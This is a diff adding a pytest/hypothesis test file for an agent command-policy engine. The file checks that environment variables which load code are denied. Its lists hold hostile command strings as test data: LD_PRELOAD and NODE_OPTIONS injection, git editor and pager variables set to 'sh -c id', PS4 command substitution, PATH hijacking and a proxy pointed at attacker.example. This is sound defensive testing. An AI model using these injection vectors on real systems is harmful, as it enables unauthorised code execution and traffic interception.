@@ -1,0 +1,179 @@
+"""Issue 10, class 6: environment that loads code.
+
+Only variables on the policy's allowlist (exec.environment) may be set, however they are set:
+assignment words, `env NAME=…`, `export`, `declare -x`, `printf -v`, `read`, `mapfile`,
+`getopts`; `set -a` (export everything) is not allowed at all.
+"""
+
+from __future__ import annotations
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from enforcement_agent.models import Verdict
+from enforcement_agent.policy import Policy
+from tests.policy.cases import assert_not_allowed
+from tests.policy.conftest import Decide
+
+ISSUE_EXAMPLE = "GIT_SEQUENCE_EDITOR='sh -c id' git rebase -i HEAD~3"
+
+LOADERS = [
+    "LD_PRELOAD=/tmp/x.so ls",
+    "LD_LIBRARY_PATH=/tmp ls",
+    "LD_AUDIT=/tmp/x.so ls",
+    "PYTHONPATH=/tmp pytest",
+    "PYTHONSTARTUP=/tmp/x.py python3 scripts/x.py",
+    "PYTHONWARNINGS=ignore::evil.Warning python3 scripts/x.py",
+    "PYTHONHOME=/tmp python3 scripts/x.py",
+    "NODE_OPTIONS='--require /tmp/x.js' npm test",
+    "NODE_PATH=/tmp node scripts/x.js",
+    "PERL5OPT=-Mevil perl scripts/x.pl",
+    "PERL5LIB=/tmp perl scripts/x.pl",
+    "RUBYOPT=-revil ruby scripts/x.rb",
+    "BASH_ENV=/tmp/x bash scripts/run.sh",
+    "ENV=/tmp/x sh scripts/run.sh",
+    "GIT_EXTERNAL_DIFF='sh -c id' git diff",
+    "GIT_PAGER='sh -c id' git log",
+    "GIT_EDITOR='sh -c id' git commit",
+    "GIT_SSH_COMMAND='sh -c id' git fetch",
+    "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0=id git log",
+    "GIT_CONFIG_PARAMETERS=\"'core.pager'='id'\" git log",
+    "GIT_DIR=/tmp/x git status",
+    "GIT_ASKPASS=/tmp/x git fetch",
+    "PAGER='sh -c id' man ls",
+    "EDITOR='sh -c id' crontab -e",
+    "VISUAL=/tmp/x git commit",
+    "LESSOPEN='|id %s' less notes.md",
+    "PROMPT_COMMAND=id bash -i",
+    "PS4='$(id)' bash -x scripts/run.sh",
+    "PATH=/tmp/evil:$PATH ls",
+    "CDPATH=.. cd ws",
+    "HOME=/tmp git log",
+    "TMPDIR=/etc make",
+    "JAVA_TOOL_OPTIONS=-javaagent:/tmp/a.jar gradle build",
+    "MAKEFLAGS=--eval=x make",
+    "CC='sh -c id' make",
+    "RUSTC_WRAPPER=/tmp/x cargo build",
+    "RUSTFLAGS='-C linker=/tmp/x' cargo build",
+    "GOFLAGS=-toolexec=/tmp/x go build ./...",
+    "npm_config_script_shell=/tmp/sh npm test",
+    "NPM_CONFIG_SCRIPT_SHELL=/tmp/sh npm test",
+    "PYTEST_ADDOPTS='-p evil' pytest",
+    "PYTEST_PLUGINS=evil pytest",
+    "http_proxy=http://attacker.example:8080 curl -s http://localhost:8000",
+    "HTTPS_PROXY=http://attacker.example curl -s https://example.com",
+    "GONOGO_POLICY_DIR=/tmp pytest",
+]
+
+# Variables set without a prefix assignment word.
+OTHER_FORMS = [
+    "env LD_PRELOAD=/tmp/x.so ls",
+    "env -i PATH=/tmp ls",
+    "env -S 'LD_PRELOAD=/tmp/x.so ls'",
+    "export PATH=/tmp/evil",
+    "export GIT_SEQUENCE_EDITOR='sh -c id'; git rebase -i HEAD~2",
+    "declare -x NODE_OPTIONS='--require /tmp/x.js'",
+    "typeset -x LD_PRELOAD=/tmp/x.so",
+    "local -x PAGER=id",
+    "readonly PATH=/tmp",
+    "declare -n ref=PATH; ref=/tmp/evil",
+    "printf -v PATH '%s' /tmp/evil",
+    "printf -v BASH_ENV '%s' /tmp/x",
+    "read -r PATH < notes.md",
+    "read BASH_ENV < notes.md",
+    "read -a LD_PRELOAD < notes.md",
+    "mapfile -t PATH < notes.md",
+    "getopts ab PATH",
+    "set -a; x=1",
+    "set -o allexport",
+    "set -k",
+    "x=1; export x",
+    "xargs --process-slot-var=LD_PRELOAD ls",
+    "path=(/tmp/evil); ls",
+    "cdpath=/tmp; cd ws",
+]
+
+ALLOWED = [
+    "CI=1 npm test",
+    "env CI=1 npm test",
+    "NO_COLOR=1 pytest -q",
+    "LANG=C LC_ALL=C sort notes.md",
+    "TZ=UTC date",
+    "RUST_BACKTRACE=1 cargo test",
+    "GOOS=linux GOARCH=arm64 go build ./...",
+    "GIT_AUTHOR_NAME=bot git commit -m x",
+    "x=1; echo $x",
+    "out=build; echo $out",
+    "export CI=true",
+    "declare -x NODE_ENV=production",
+    "read -r line < notes.md",
+    "printf -v msg '%s' done",
+    "while IFS= read -r line; do echo $line; done < notes.md",
+]
+
+
+def test_issue_example_is_denied(decide: Decide) -> None:
+    d = decide(ISSUE_EXAMPLE)
+    assert d.decision is Verdict.DENY
+    assert "GIT_SEQUENCE_EDITOR" in d.reason
+
+
+@pytest.mark.parametrize("command", LOADERS + OTHER_FORMS)
+def test_variables_off_the_list_are_not_allowed(decide: Decide, command: str) -> None:
+    assert_not_allowed(decide, command)
+
+
+@pytest.mark.parametrize("command", ALLOWED)
+def test_listed_variables_are_allowed(decide: Decide, command: str) -> None:
+    d = decide(command)
+    assert d.decision is Verdict.ALLOW, (command, d.rule, d.reason)
+
+
+FORMS = [
+    "{n}=x ls",
+    "env {n}=x ls",
+    "env -i {n}=x ls",
+    "export {n}=x",
+    "declare -x {n}=x",
+    "{n}=x; ls",
+    "printf -v {n} '%s' x",
+    "read -r {n} < notes.md",
+    "timeout 5 env {n}=x ls",
+    "bash -c '{n}=x ls'",
+]
+
+
+@settings(
+    max_examples=400, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
+)
+@given(
+    name=st.from_regex(r"[A-Z][A-Z0-9_]{0,20}", fullmatch=True),
+    form=st.sampled_from(FORMS),
+)
+def test_any_unlisted_upper_case_variable_is_not_allowed(
+    decide: Decide, default_policy: Policy, name: str, form: str
+) -> None:
+    allowed = default_policy.compiled.exec.env_export
+    assert allowed is not None
+    if allowed.match(name):
+        return
+    command = form.format(n=name)
+    d = decide(command)
+    assert d.decision is not Verdict.ALLOW, (command, d.rule)
+
+
+@settings(
+    max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
+)
+@given(name=st.from_regex(r"[a-z][a-z0-9_]{0,12}", fullmatch=True))
+def test_lower_case_names_may_be_shell_variables_but_never_exported(
+    decide: Decide, default_policy: Policy, name: str
+) -> None:
+    exec_cfg = default_policy.compiled.exec
+    if exec_cfg.env_never is not None and exec_cfg.env_never.match(name):
+        assert decide(f"{name}=x").decision is not Verdict.ALLOW
+        return
+    assert decide(f"{name}=x").decision is Verdict.ALLOW
+    assert decide(f"{name}=x ls").decision is not Verdict.ALLOW  # reaches ls's environment
+    assert decide(f"env {name}=x ls").decision is not Verdict.ALLOW
